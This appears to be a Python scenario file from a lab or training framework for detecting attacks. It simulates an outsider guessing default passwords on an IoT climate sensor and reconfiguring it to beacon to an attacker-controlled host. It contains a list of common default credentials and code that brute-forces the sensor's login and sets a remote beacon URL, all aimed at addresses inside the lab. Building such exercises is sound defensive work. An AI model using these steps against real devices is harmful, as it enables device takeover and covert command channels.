"""Default password on an IoT device, then beaconing: a sensor is taken over from outside and calls home."""

import asyncio
import json

from linewarden.exercises.context import Context
from linewarden.exercises.devices import iot, stranger
from linewarden.exercises.devices._http import basic, fetch
from linewarden.exercises.line import DEVICES
from linewarden.exercises.pace import ticks
from linewarden.exercises.scenario import Scenario, Source, Step

LOGINS = (
    ("root", "root"),
    ("root", "12345"),
    ("admin", "1111"),
    ("user", "user"),
    ("admin", "password"),
    ("admin", "admin"),
)
BEACON = f"http://{DEVICES['stranger'].address}:{stranger.HTTP_PORT}/beacon"
WATCHED_S = 45.0


def _guess(ctx: Context) -> str:
    ctx.require_attack_allowed()
    for tried, login in enumerate(LOGINS, 1):
        place = DEVICES["iot-climate"].address
        status, _ = asyncio.run(fetch(place, iot.HTTP_PORT, "/", headers=basic(*login), agent="Mozilla/4.0"))
        if status == 200:
            return f"login {login[0]} opened after {tried} tries"
    raise ConnectionError("no default password fits")


def _implant(ctx: Context) -> str:
    ctx.require_attack_allowed()
    ctx.impact_begins()
    body = json.dumps({"url": BEACON}).encode()
    said = fetch(DEVICES["iot-climate"].address, iot.HTTP_PORT, "/api/cloud", method="POST", body=body,
                 headers=basic(*LOGINS[-1]), agent="Mozilla/4.0")  # fmt: skip
    status, text = asyncio.run(said)
    return f"the sensor will report to {BEACON}: {text} ({status})"


def _beacons(_ctx: Context) -> str:
    turns = sum(1 for _ in ticks(1.0, WATCHED_S))
    return f"watched for {turns} s; a beacon is due every {iot.BEACON_S:.0f} s, up to {iot.JITTER:.0%} late"


SCENARIO = Scenario(
    title="Default password on an IoT device, and beaconing",
    kind="incident",
    summary="A climate sensor is reachable from the internet and has the password that it came with. It is told "
    "to report elsewhere, and does so at nearly even intervals, beside its usual telemetry.",
    seconds=80,
    sources=(
        Source("CISA AA23-335A: IRGC-Affiliated Cyber Actors Exploit PLCs in Multiple Sectors (default passwords)",
               "https://www.cisa.gov/news-events/cybersecurity-advisories/aa23-335a"),
        Source("M. Antonakakis et al., Understanding the Mirai Botnet, USENIX Security 2017",
               "https://www.usenix.org/conference/usenixsecurity17/technical-sessions/presentation/antonakakis"),
    ),
    steps=(
        Step("guess", 8, "stranger", "tries six default logins on the sensor's web page", _guess, ("iot-climate",),
             ("T0883", "T0812"), hostile=True),
        Step("implant", 16, "stranger", "sets where the sensor reports to", _implant, ("iot-climate",),
             ("T0812", "T0859"), hostile=True, impact=True),
        Step("beacon", 18, "iot-climate", "calls home", _beacons, ("stranger",), ("T0869", "T0885"), hostile=True),
    ),
)  # fmt: skip
